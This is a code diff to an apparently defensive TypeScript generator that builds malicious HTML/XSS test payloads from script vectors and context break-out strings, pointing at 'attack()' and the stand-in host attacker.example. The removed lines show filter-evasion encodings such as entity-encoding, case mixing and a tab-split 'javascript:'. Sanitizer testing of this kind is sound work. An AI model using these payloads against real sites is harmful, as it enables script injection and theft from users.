@@ -1,5 +1,5 @@
-// Malicious HTML, made from a grammar: ways to run a script × ways to write them down × contexts to break out of. Each
-// calls `attack`, or brings something from the attacker's host.
+// Malicious HTML: ways to run a script × contexts to break out of. Each calls `attack`, or brings something from the
+// attacker's host.
 
 /** Ways to run a script or to fetch something. CODE is what runs, URL leads to the attacker. */
 const vectors = [
@@ -29,36 +29,6 @@ const vectors = [
   ...['\x24{CODE}', '{{constructor.constructor("CODE")()}}', '\\u003cscript\\u003eCODE\\u003c/script\\u003e'],
 ];
 
-type Writing = (payload: string) => string;
-
-const everyOther = (text: string) =>
-  [...text].map((letter, index) => (index % 2 ? letter : letter.toUpperCase())).join('');
-const inTags =
-  (change: (name: string) => string): Writing =>
-  (payload) =>
-    payload.replaceAll(/(<\/?)([a-z]+)/gi, (_, open: string, name: string) => open + change(name));
-const entities = (text: string) => Array.from(text, (letter) => `&#${letter.codePointAt(0)};`).join('');
-
-/** Ways to write the same down. */
-const writings: Writing[] = [
-  (payload) => payload,
-  inTags(everyOther),
-  // Slashes and line breaks where blanks are expected.
-  (payload) => payload.replaceAll(/<(\w+) /g, '<$1/'),
-  // Without its last bracket, as if what follows were part of it.
-  (payload) => payload.replace(/>$/, ' '),
-  // Schemes and handlers that only a browser reads as such.
-  (payload) => payload.replaceAll('javascript:', 'java\tscript:').replaceAll(/\bon([a-z]+)=/g, 'ON$1\n='),
-  (payload) =>
-    payload
-      .replaceAll('javascript:', `${entities('javascript')}&colon;`)
-      .replaceAll('CODE', entities('CODE')),
-  // Names that are put together again when a filter takes the middle out.
-  inTags((name) => `${name.slice(0, 2)}<${name}>${name.slice(2)}`),
-  // Already escaped: it must stay a text.
-  (payload) => payload.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
-];
-
 /** What closes the place that a text may stand in: attributes, titles, scripts, comments, data. */
 const contexts = [
   ...['', '">', "'>", ' ', '--><!--x-->', '</title>', '</textarea>', '</script>', '</style>', ']]>'],
@@ -68,15 +38,11 @@ const contexts = [
 
 const code = 'attack()';
 const url = 'https://attacker.example/';
-const filledIn = (text: string) =>
-  text
-    .replaceAll(entities('CODE'), () => entities(code))
-    .replaceAll('CODE', () => code)
-    .replaceAll('URL', () => url);
+const filledIn = (text: string) => text.replaceAll('CODE', () => code).replaceAll('URL', () => url);
 
-/** Every vector in every writing; the contexts take turns, so that each meets all vectors and all writings. */
+/** Every vector in eight contexts, which take turns. */
 const payloads = vectors.flatMap((vector, row) =>
-  writings.map((write, column) => contexts[(row + column) % contexts.length] + filledIn(write(vector))),
+  Array.from({ length: 8 }, (_, turn) => contexts[(row + turn) % contexts.length] + filledIn(vector)),
 );
 
 /** Ends whatever a payload has left open, so that the next one is read as markup again. */
